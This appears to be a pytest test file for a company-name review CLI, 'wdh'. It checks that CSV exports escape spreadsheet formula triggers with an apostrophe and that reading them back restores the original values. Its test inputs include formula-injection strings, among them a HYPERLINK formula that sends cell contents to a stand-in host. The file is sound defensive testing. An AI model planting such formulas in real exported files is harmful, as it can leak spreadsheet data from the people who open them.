"""CSV files made for people carry no live formula (issue 22), through the installed wdh.

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is
written with an apostrophe in front (and so is one that begins with
apostrophes followed by one of those, to keep it reversible); the readers of
those files take it off again, so a round trip changes nothing. The xlsx
files, and resolve's own output, keep every value as it is.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import openpyxl
import psycopg
from python_calamine import CalamineWorkbook

from tests.helpers import candidates, request, run_wdh, wdh_env
from wdh_cli.files import unescape_cell
from wdh_cli.names import normalize_name
from wdh_cli.providers.base import Candidate
from wdh_cli.review.sheet import COLUMNS

TRIGGERS = "=+-@\t\r"
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?q="&A1,"点我")有限公司',
    "+1+2有限公司",
    "-5有限公司",
    "@SUM(1)公司",
    "\t制表有限公司",
    "\r回车有限公司",
    "'=已有撇号有限公司",  # an apostrophe before a trigger: one more, taken off again
    "''-两个撇号有限公司",
    "'普通撇号有限公司",  # an apostrophe before anything else: left alone
]


def _env(db_url: str) -> dict[str, str]:
    return wdh_env(WDH_DATABASE_URL=db_url, WDH_ALIAS_SALT="pepper")


def _escaped(text: str) -> str:
    """What the file must hold for `text`."""
    return "'" + text if text.lstrip("'")[:1] in tuple(TRIGGERS) else text


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def _no_cell_runs(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert cell[:1] not in tuple(TRIGGERS), cell


def test_review_csv_round_trip_keeps_names_and_decisions(db_url: str, tmp_path: Path) -> None:
    official = {name: f"-{name}" for name in HOSTILE}  # the candidates' names start with "-"
    with psycopg.connect(db_url, autocommit=True) as conn:
        ids = {}
        for number, name in enumerate(HOSTILE):
            ids[name] = request(conn, name, rows_seen=100 - number)
            candidates(
                conn,
                name,
                Candidate(f"-{number}", official[name], f"@{number}", "fuzzy", 0.5),
                Candidate(f"C{number}", "=1+1", None, "fuzzy", 0.4),
            )
    path = tmp_path / "review.csv"
    assert run_wdh("review", "export", str(path), env=_env(db_url)).returncode == 0

    rows = _rows(path)
    _no_cell_runs(rows)
    assert tuple(rows[0]) == COLUMNS
    at = {name: COLUMNS.index(name) for name in COLUMNS}
    by_id = {int(row[0]): row for row in rows[1:]}
    for name in HOSTILE:
        row = by_id[ids[name]]
        assert row[at["raw_name"]] == _escaped(name)
        assert row[at["normalized_name"]] == _escaped(normalize_name(name))
        assert row[at["candidate_1_id"]] == f"'-{HOSTILE.index(name)}"
        assert row[at["candidate_1_name"]] == "'" + official[name]
        assert row[at["candidate_1_credit_code"]] == f"'@{HOSTILE.index(name)}"
        assert row[at["candidate_2_name"]] == "'=1+1"
        assert row[at["rows_seen"]] == str(100 - HOSTILE.index(name))
    assert by_id[ids["'普通撇号有限公司"]][at["raw_name"]] == "'普通撇号有限公司"
    assert by_id[ids["'=已有撇号有限公司"]][at["raw_name"]] == "''=已有撇号有限公司"

    # A person decides: candidate 1 for most, a typed ID for two (one begins with "-").
    typed = {HOSTILE[0]: "-614810477", HOSTILE[1]: "614810477"}
    for name in HOSTILE:
        row = by_id[ids[name]]
        if name in typed:
            row[at["decision"]], row[at["company_id"]] = "id", typed[name]
        else:
            row[at["decision"]] = "1"
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle, lineterminator="\r\n").writerows(rows)

    applied = run_wdh("review", "apply", str(path), "--json", env=_env(db_url))
    assert applied.returncode == 0, applied.stderr
    figures = json.loads(applied.stdout)
    assert (figures["applied"], figures["rejected"]) == (len(HOSTILE), 0), figures
    with psycopg.connect(db_url) as conn:
        done = dict(
            conn.execute(
                "SELECT id, resolved_company_id FROM enterprise.enrichment_requests "
                "WHERE status = 'done'"
            ).fetchall()
        )
        master = dict(
            conn.execute(
                "SELECT company_id, official_name FROM enterprise.company_master"
            ).fetchall()
        )
        codes = dict(
            conn.execute(
                "SELECT company_id, unified_credit_code FROM enterprise.company_master"
            ).fetchall()
        )
        mapped = dict(
            conn.execute(
                "SELECT alias_name, canonical_id FROM enterprise.company_mapping "
                "WHERE source = 'review'"
            ).fetchall()
        )
    for number, name in enumerate(HOSTILE):
        company = typed.get(name, f"-{number}")
        assert done[ids[name]] == company
        assert mapped[normalize_name(name)] == company
        if name in typed:
            assert master[company] == name  # a typed ID takes the raw name
        else:
            assert master[company] == official[name]
            assert codes[company] == f"@{number}"


def test_review_xlsx_keeps_text_cells_as_they_are(db_url: str, tmp_path: Path) -> None:
    """Text cells of an xlsx are never formulas: no apostrophe, nothing to take off."""
    with psycopg.connect(db_url, autocommit=True) as conn:
        ids = [request(conn, name, rows_seen=100 - n) for n, name in enumerate(HOSTILE)]
        candidates(conn, HOSTILE[0], Candidate("-1", "=1+1", None, "fuzzy", 0.5))
    path = tmp_path / "review.xlsx"
    assert run_wdh("review", "export", str(path), env=_env(db_url)).returncode == 0
    # Values as wdh reads them (openpyxl leaves the _x000D_ escape of a CR in place).
    values = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    assert [row[COLUMNS.index("raw_name")] for row in values[1:]] == HOSTILE
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert sheet is not None
    raw_name = COLUMNS.index("raw_name") + 1
    for number in range(2, len(HOSTILE) + 2):
        assert sheet.cell(row=number, column=raw_name).data_type == "s"
    first = {COLUMNS[i]: c for i, c in enumerate(sheet[2])}
    assert (first["candidate_1_id"].value, first["candidate_1_id"].data_type) == ("-1", "s")
    assert (first["candidate_1_name"].value, first["candidate_1_name"].data_type) == ("=1+1", "s")
    first["decision"].value = "1"
    book.save(path)
    applied = run_wdh("review", "apply", str(path), "--json", env=_env(db_url))
    assert json.loads(applied.stdout)["applied"] == 1, applied.stderr
    with psycopg.connect(db_url) as conn:
        assert conn.execute(
            "SELECT company_id, official_name FROM enterprise.company_master"
        ).fetchall() == [("-1", "=1+1")]
        assert conn.execute(
            "SELECT resolved_company_id FROM enterprise.enrichment_requests WHERE id = %s",
            (ids[0],),
        ).fetchone() == ("-1",)


MAPPINGS = [
    ("=1+1", "-7", "plan", 1, "-crm"),
    ("+P1", "C1", "plan", 1, "@crm"),
    ("-P1", "C2", "account", 2, "crm"),
    ("@P1", "C3", "account", 2, "crm"),
    ("'=P1", "C4", "hardcode", 3, "crm"),
    ("''-P1", "C5", "hardcode", 3, "crm"),
    ("'P1", "C6", "account_name", 5, "crm"),
    ("=hyperlink（http://x,点我）有限公司", "C7", "name", 4, "crm"),
]


def test_mappings_export_csv_escapes_and_loads_back_unchanged(db_url: str, tmp_path: Path) -> None:
    with psycopg.connect(db_url, autocommit=True) as conn:
        conn.cursor().executemany(
            "INSERT INTO enterprise.company_mapping "
            "(alias_name, canonical_id, match_type, priority, source) VALUES (%s, %s, %s, %s, %s)",
            MAPPINGS,
        )
    env = _env(db_url)
    out = tmp_path / "out.csv"
    assert run_wdh("mappings", "export", "--output", str(out), env=env).returncode == 0
    rows = _rows(out)
    _no_cell_runs(rows)
    assert sorted(rows[1:]) == sorted(
        [_escaped(a), _escaped(c), t, str(p), _escaped(s)] for a, c, t, p, s in MAPPINGS
    )
    stdout = run_wdh("mappings", "export", env=env).stdout
    assert stdout == out.read_text(encoding="utf-8")

    with psycopg.connect(db_url, autocommit=True) as conn:
        conn.execute("DELETE FROM enterprise.company_mapping")
    loaded = run_wdh("mappings", "load", str(out), "--json", env=env)
    assert loaded.returncode == 0, loaded.stderr
    figures = json.loads(loaded.stdout)
    assert (figures["inserted"], figures["rejected"]) == (len(MAPPINGS), 0), figures
    with psycopg.connect(db_url) as conn:
        stored = conn.execute(
            "SELECT alias_name, canonical_id, match_type, priority, source "
            "FROM enterprise.company_mapping"
        ).fetchall()
    assert sorted(stored) == sorted(MAPPINGS)


def test_a_hand_written_apostrophe_is_kept(db_url: str, tmp_path: Path) -> None:
    """Only an apostrophe wdh's escaping would have put there is taken off."""
    path = tmp_path / "hand.csv"
    path.write_text(
        "alias_name,canonical_id,match_type,priority\n"
        "'P1,C1,plan,\n"  # kept: no formula start after it
        "'=P2,C2,plan,\n"  # taken off: =P2
        "P3,'-9,plan,'1\n",  # the ID -9; priority '1 is not a number
        encoding="utf-8",
    )
    result = run_wdh("mappings", "load", str(path), "--json", env=_env(db_url))
    data = json.loads(result.stdout)
    assert data["rejected_list"] == [
        {"file": str(path), "line": 4, "reason": 'priority "\'1" is not a whole number from 1 to 5'}
    ]
    with psycopg.connect(db_url) as conn:
        stored = conn.execute(
            "SELECT alias_name, canonical_id FROM enterprise.company_mapping"
        ).fetchall()
    assert sorted(stored) == [("'P1", "C1"), ("=P2", "C2")]


def test_queue_resolved_escapes_names_and_ids(db_url: str, tmp_path: Path) -> None:
    with psycopg.connect(db_url, autocommit=True) as conn:
        done = request(conn, HOSTILE[0], status="done", error=None)
        conn.execute(
            "UPDATE enterprise.enrichment_requests SET resolved_company_id = '-7', "
            "resolved_source = 'review' WHERE id = %s",
            (done,),
        )
        (temp_id,) = conn.execute(
            "SELECT temp_id FROM enterprise.enrichment_requests WHERE id = %s", (done,)
        ).fetchone() or (None,)
    env = _env(db_url)
    listed = run_wdh("queue", "resolved", env=env)
    assert listed.returncode == 0, listed.stderr
    rows = list(csv.reader(io.StringIO(listed.stdout, newline="")))
    _no_cell_runs(rows)
    assert rows[1][:3] == [temp_id, "'" + HOSTILE[0], "'-7"]
    out = tmp_path / "resolved.csv"
    assert run_wdh("queue", "resolved", "--output", str(out), env=env).returncode == 0
    assert _rows(out) == rows


def test_resolve_output_keeps_every_value(db_url: str, tmp_path: Path) -> None:
    """resolve's output is a data file for the pipeline: no apostrophe is added."""
    source = tmp_path / "in.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["客户名称", "金额"])
        writer.writerows([[name, "-5"] for name in HOSTILE])
    result = run_wdh("resolve", str(source), "--offline", env=_env(db_url))
    assert result.returncode == 0, result.stderr
    rows = _rows(tmp_path / "in.resolved.csv")
    assert [row[:2] for row in rows[1:]] == [[name, "-5"] for name in HOSTILE]


def test_export_unknown_is_a_csv_for_people(db_url: str, tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["客户名称"])
        writer.writerows([[name] for name in HOSTILE])
    unknown = tmp_path / "unknown.csv"
    result = run_wdh(
        "resolve", str(source), "--offline", "--export-unknown", str(unknown), env=_env(db_url)
    )
    assert result.returncode == 0, result.stderr
    rows = _rows(unknown)
    _no_cell_runs(rows)
    names = [row[0] for row in rows[1:]]
    assert "'" + HOSTILE[0] in names
    # Resolve may record a name trimmed: compare what the cells say, read back.
    assert sorted(unescape_cell(name).strip() for name in names) == sorted(
        name.strip() for name in HOSTILE
    )
